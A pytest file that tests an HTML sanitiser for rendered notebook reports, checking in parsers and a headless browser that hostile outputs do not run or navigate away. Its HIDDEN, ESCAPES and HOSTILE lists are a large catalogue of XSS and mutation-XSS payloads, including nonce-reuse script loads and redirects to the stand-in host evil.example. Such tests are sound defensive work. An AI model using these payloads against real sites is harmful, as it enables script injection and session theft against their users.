"""What runs in the page of somebody else's notebook: players, each alone in its frame, and nothing else."""

import html
import http.server
import re
import threading

import nbformat
import pytest
from bleach.html5lib_shim import HTMLParser, getTreeWalker
from bs4 import BeautifulSoup
from lab import FLAGS, chromium
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output

from bpilib.data import synthetic
from bpilib.plots import clips
from bpilib.report import write_report
from bpilib.report.guard import TAGS, guard
from bpilib.skeleton import UCLA

RUN = "parent.document.title=document.title='RAN'"
REFRESH = '<meta http-equiv="refresh" content="0;url=https://evil.example/">'
SMUGGLED = f"{REFRESH}<base href=https://evil.example/><img src=x onerror={RUN}>"
HIDDEN = [  # where a parser may see text or a comment, and a browser tags, or the other way round
    f"<svg><style>{SMUGGLED}</style></svg>",
    f"<math><style>{SMUGGLED}</style></math>",
    f"<svg><style></p>{SMUGGLED}</style></svg>",
    f"<svg><style><![CDATA[</style>{SMUGGLED}]]></style></svg>",
    f"<svg><title>{SMUGGLED}</title><desc>{SMUGGLED}</desc></svg>",
    f"<svg><foreignObject><div>{SMUGGLED}</div></foreignObject></svg>",
    f"<svg></p><style><a id='</style>{SMUGGLED}'>",
    f"<svg><![CDATA[><img src=x>{SMUGGLED}]]></svg><![CDATA[{SMUGGLED}]]>",
    f"<math><annotation-xml encoding='text/html'><style>{SMUGGLED}</style></annotation-xml></math>",
    f"<form><math><mtext></form><form><mglyph><style></math>{SMUGGLED}",
    f"<math><mtext><table><mglyph><style><!--</style>{SMUGGLED}-->",
    f"<!-->{SMUGGLED} -->",
    f"<!--->{SMUGGLED} -->",
    f"<!--x--!>{SMUGGLED} -->",
    f"<!-- --!>{SMUGGLED}<!-- -->",
    f"<!--<!-->{SMUGGLED}-->",
    f"<!--[if true]>{SMUGGLED}<![endif]--><![if true]>{SMUGGLED}<![endif]>",
    f"<!x>{SMUGGLED}<?xml >{SMUGGLED}?></x >{SMUGGLED}</ >{SMUGGLED}",
    f"<noscript>{SMUGGLED}</noscript>",
    f"<noscript><style></noscript>{SMUGGLED}</style>",
    f"<template>{SMUGGLED}</template>",
    *(
        f'<{tag}>{SMUGGLED}</{tag}><{tag}><a title="</{tag}>{SMUGGLED}">'
        for tag in ("textarea", "title", "xmp", "noembed", "noframes", "iframe", "select", "button", "marquee")
    ),
    f"<select><style></select>{SMUGGLED}</style>",
    f"<script><!--<script></script>{SMUGGLED}</script>-->{SMUGGLED}",
    f'<p title="{SMUGGLED.replace(chr(34), "")}"><p title=\'">{SMUGGLED}\'>',
    f"<a/href='javascript:{RUN}'/onclick={RUN}>a</a><a href='{' ' * 300}javascript:{RUN}'>b</a>",
    f"<a href='&#1;java&Tab;script&colon;{RUN}'>a</a><svg><a xlink:href='javascript:{RUN}'><text>a</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg/>#a'/><image xlink:href='https://evil.example/a.png'/></svg>",
    f"<svg><set attributeName=href to='javascript:{RUN}'/><script href='https://evil.example/'/></svg>",
    f"<html onclick={RUN}><body onload={RUN} background=https://evil.example/><frameset onload={RUN}>",
    "<link rel=prefetch href=//evil.example/><img src='//evil.example/' srcset='//evil.example/ 2x'>",
    "<img src='/\\evil.example/'><video poster='\\\\evil.example/' src='ht\ttp://evil.example/'></video>",
    f"<isindex action='javascript:{RUN}'><input type=image src=https://evil.example/ formaction='javascript:{RUN}'>",
    '<iframe srcdoc="<script src=https://evil.example/a.js></script><base href=https://evil.example/>"></iframe>',
    "<iframe srcdoc=\"<meta http-equiv=refresh content='0;url=https://evil.example/'>\"></iframe>",
    f"<plaintext>{SMUGGLED}",
]
ESCAPES = [  # what a player of somebody else could try to reach the network with
    "let s = document.createElement('script'); s.nonce = document.currentScript.nonce; "
    "s.src = 'https://evil.example/a.js'; document.body.append(s)",
    "location = 'https://evil.example/'",
    "top.location = 'https://evil.example/'",
    "document.body.innerHTML = '<meta http-equiv=refresh content=0;url=https://evil.example/>'",
]
HOSTILE = {  # mime type of an output, or a cell → what it brings
    "text/html": [
        f"<script>{RUN}</script>",
        f'<img src="x" onerror="{RUN}">',
        f'<svg onload="{RUN}"><animate onbegin="{RUN}" attributeName="x"></svg>',
        f'<a id="link" href="java\tscript:{RUN}">a</a><a href="data:text/html,<script>{RUN}</script>">b</a>',
        f'<iframe src="javascript:{RUN}"></iframe><iframe src="https://evil.example/"></iframe>',
        f'<iframe srcdoc="<script>{RUN}</script>" sandbox="allow-scripts allow-same-origin" onload="{RUN}"></iframe>',
        f'<object data="data:text/html,<script>{RUN}</script>"></object><embed src="https://evil.example/x.swf">',
        f'<form action="javascript:{RUN}"><button formaction="javascript:{RUN}">b</button></form>',
        '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">',
        '<link rel="stylesheet" href="https://evil.example/x.css"><img src="https://evil.example/x.png">',
        f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
        f"<style><!--</style><img src=x onerror={RUN}>--></style>",
        f"<table><td><math><mtext><table><mglyph><style><img src=x onerror={RUN}></style>",
        f"</div></main></body></html><script>{RUN}</script>",
        *HIDDEN,
    ],
    "text/markdown": [f"<script>{RUN}</script> [x](javascript:{RUN})", f"<img src=x onerror={RUN}>"],
    "a markdown cell": [content for content in HIDDEN if content.startswith(("<svg><style>", "<!-", "<noscript>"))],
    "image/svg+xml": [f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script></svg>'],
    "application/javascript": [RUN],
    "text/latex": [f"$\\href{{javascript:{RUN}}}{{x}}$"],
}
TABLE = "<style>#t td {color: red}</style><table id='t'><tr><td>kept &lt;b&gt; text</td></tr></table>"


def player():
    return clips.animate(synthetic.perform(1, 1, 0)[:, None], UCLA, "a player").data


def write(folder, *pages):
    """A report of one notebook with these outputs and cells, (kind, content); the text of its page."""
    cells = [new_markdown_cell(f"# title <script>{RUN}</script>\n<img src=x onerror={RUN}>")]
    shown = [(kind, content) for kind, content in pages if kind != "a markdown cell"]
    outputs = [new_output("display_data", {kind: content, "text/plain": "text"}) for kind, content in shown]
    outputs.append(new_output("error", ename="<b>", evalue="<b>", traceback=[f"<img src=x onerror={RUN}>"]))
    cells.append(new_code_cell("1", execution_count=1, outputs=outputs))
    cells += [new_markdown_cell(content) for kind, content in pages if kind == "a markdown cell"]
    nbformat.write(new_notebook(cells=cells), folder / "03_evaluate.ipynb")
    return (write_report(folder).parent / "03_evaluate.html").read_text()


def runs(page, nonce):
    """What could run in a page, or in a frame of it, without the nonce; frames that are not sandboxed."""
    found = []
    for tag in BeautifulSoup(page, "html.parser").find_all(True):
        if tag.name == "script" and tag.get("nonce") != nonce:
            found.append(tag)
        if tag.name == "iframe" and (tag.get("sandbox") != ["allow-scripts"] or "src" in tag.attrs):
            found.append(tag)
        for name, value in tag.attrs.items():
            address = re.sub(r"\s", "", str(value))
            if name.startswith("on") or address.startswith(("javascript:", "data:text")):
                found.append((tag.name, name))
    return found


def alive(page, nonce):
    """What could run in a page, lead away from it or be fetched, as a browser would parse it, without the nonce."""
    found, policies = [], 0
    for token in getTreeWalker("etree")(HTMLParser().parse(page)):
        if token["type"] not in ("StartTag", "EmptyTag"):
            found += [token["data"]] if token["type"] == "Comment" else []
            continue
        tag, given = token["name"], {name.lower(): value for (_, name), value in token["data"].items()}
        policies += given.get("http-equiv") == "Content-Security-Policy"
        if given.get("http-equiv", "Content-Security-Policy") != "Content-Security-Policy":
            found.append((tag, given))
        if tag in ("base", "form", "link", "object", "embed", "template", "noscript", "frame", "frameset", "math"):
            found.append((tag, given))
        if tag == "script" and (given.get("nonce") != nonce or "src" in given):
            found.append((tag, given))
        if tag == "iframe":
            if given.get("sandbox") != "allow-scripts" or "src" in given:
                found.append((tag, given))
            found += alive(given["srcdoc"], nonce)
        for name, value in given.items():
            address = re.sub(r"[\0-\x20]", "", value).lower()
            if name.startswith("on") or address.startswith(("javascript:", "data:text", "data:image/svg")):
                found.append((tag, name))
            if "evil" in address and name not in ("title", "srcdoc") and (tag, name) != ("a", "href"):
                found.append((tag, name))
    return found if policies in (0, 2) else [*found, f"{policies} policies"]


@pytest.mark.parametrize(
    ("kind", "content"), [(kind, content) for kind, contents in HOSTILE.items() for content in contents]
)
def test_nothing_that_an_output_brings_runs(tmp_path, kind, content):
    page = write(tmp_path, ("text/html", TABLE), (kind, content))
    head = re.search(r'<head><meta content="([^"]*)" http-equiv="Content-Security-Policy"/>', page)[1]
    nonce = re.search(r"script-src 'nonce-([\w-]{20,})';", head)[1]
    assert head.startswith("default-src 'none'; ") and "unsafe" not in head.replace("style-src 'unsafe-inline'", "")
    assert runs(page, nonce) == [] and alive(page, nonce) == []
    assert "<!--" not in page and set(re.findall(r"<(?:/|(?!!DOCTYPE))([^\s>]*)", page)) <= TAGS | {"meta", "iframe"}
    outside = re.sub(r'srcdoc="[^"]*"', "", page)
    assert nonce not in outside.replace(head, "")
    assert "kept &lt;b&gt; text" in page and "#t td {color: red}" in page


def test_every_page_has_a_nonce_of_its_own():
    pages = [guard("<html><head></head><body></body></html>") for _ in range(2)]
    assert pages[0] != pages[1]


def test_what_is_left_out_is_said():
    page = guard("<html><head></head><body><p>a<script>1</script></p><script type='a/json'>2</script></body></html>")
    assert page.count("(a script or a page from elsewhere, which reports leave out)") == 1


def test_what_is_harmless_is_written_as_it_was():
    body = (
        '<h1 id="a">ä &lt;b&gt; &amp;amp; <em>x</em><sub>i</sub></h1><pre>\n\n two\n</pre><hr>'
        '<table class="dataframe" border="1"><tbody><tr style="a: b"><td colspan="2">1</td></tr></tbody></table>'
        '<details open=""><summary>s</summary><p>t<br>u</p></details><input type="checkbox" disabled="" checked="">'
        '<a href="https://a.example/?b&amp;c" title="&quot;">l</a><a href="#a">m</a><a href="../docs/x.md">n</a>'
        '<img alt="p" src="data:image/png;base64,AA+/="><style>a > b::before {content: "<"; color: red}</style>'
        '<svg viewBox="0 0 1 1" role="img" aria-label="s"><defs><linearGradient id="g"><stop offset="0"></stop>'
        '</linearGradient><path id="p" d="M0 0"></path></defs><use xlink:href="#p" x="1"></use></svg>'
    )
    page = guard(f"<!doctype html><html lang='en'><head><title>t</title></head><body class='c'>{body}</body></html>")
    assert page.startswith('<!DOCTYPE html>\n<html lang="en"><head><meta content="default-src')
    assert page.endswith(f'<title>t</title></head><body class="c">{body}</body></html>')


def test_deep_and_unknown_elements_are_read():
    page = guard(f"<html><head></head><body>{'<div>' * 3000}deep<blink>kept</blink></body></html>")
    assert "deepkept" in page and page.count("</div>") == 3000


@pytest.mark.slow
@pytest.mark.browser
@pytest.mark.skipif(chromium() is None, reason="no chromium here: apt-get install chromium")
def test_in_a_browser_nothing_leads_away(tmp_path):
    """Each alone, since the page of one may swallow the next; the host is asked nothing."""
    sync_api = pytest.importorskip("playwright.sync_api", reason="no playwright here: pip install -e '.[test]'")
    asked, titles = [], set()

    class Host(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            asked.append(self.path)

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Host) as host, sync_api.sync_playwright() as playwright:
        threading.Thread(target=host.serve_forever, daemon=True).start()
        frames = [f"<iframe srcdoc='{html.escape(f'<body><script>{code}</script>')}'></iframe>" for code in ESCAPES]
        browser = playwright.chromium.launch(executable_path=chromium(), args=FLAGS)
        page = browser.new_page()
        for number, content in enumerate([*HIDDEN, *frames]):
            (tmp_path / str(number)).mkdir()
            here = re.sub("(https:)?//evil.example/", f"http://127.0.0.1:{host.server_port}/{number}/", content)
            write(tmp_path / str(number), ("text/html", here))
            place = tmp_path / str(number) / "report" / "03_evaluate.html"
            page.goto(place.as_uri())
            page.wait_for_timeout(200)
            titles.add(page.title())
            assert page.url == place.as_uri()
        browser.close()
        host.shutdown()
    assert titles == {"03_evaluate"} and asked == []


@pytest.mark.browser
@pytest.mark.skipif(chromium() is None, reason="no chromium here: apt-get install chromium")
def test_in_a_browser_a_player_plays_and_nothing_else_runs(tmp_path):
    sync_api = pytest.importorskip("playwright.sync_api", reason="no playwright here: pip install -e '.[test]'")
    hostile = [(kind, content) for kind, contents in HOSTILE.items() for content in contents if content not in HIDDEN]
    write(tmp_path, ("text/html", player()), *hostile)
    asked = []
    with sync_api.sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=chromium(), args=FLAGS)
        page = browser.new_page()
        page.on("request", lambda request: asked.append(request.url))
        page.goto((tmp_path / "report" / "03_evaluate.html").as_uri())
        frame = page.frame_locator("iframe[title='skeleton animation']")
        before = frame.locator("#bar input").input_value()
        frame.locator("button").first.click(force=True)
        page.wait_for_timeout(300)
        frame.locator("canvas").first.wait_for()
        assert frame.locator("figcaption").inner_text() == "a player"
        assert before is not None and frame.locator("body").evaluate("() => origin") == "null"
        page.evaluate("document.querySelectorAll('a').forEach(a => a.id === 'link' && a.click())")
        page.wait_for_timeout(300)
        assert page.title() == "03_evaluate"
        browser.close()
    assert [url for url in asked if not url.startswith(("file:", "data:", "about:"))] == []
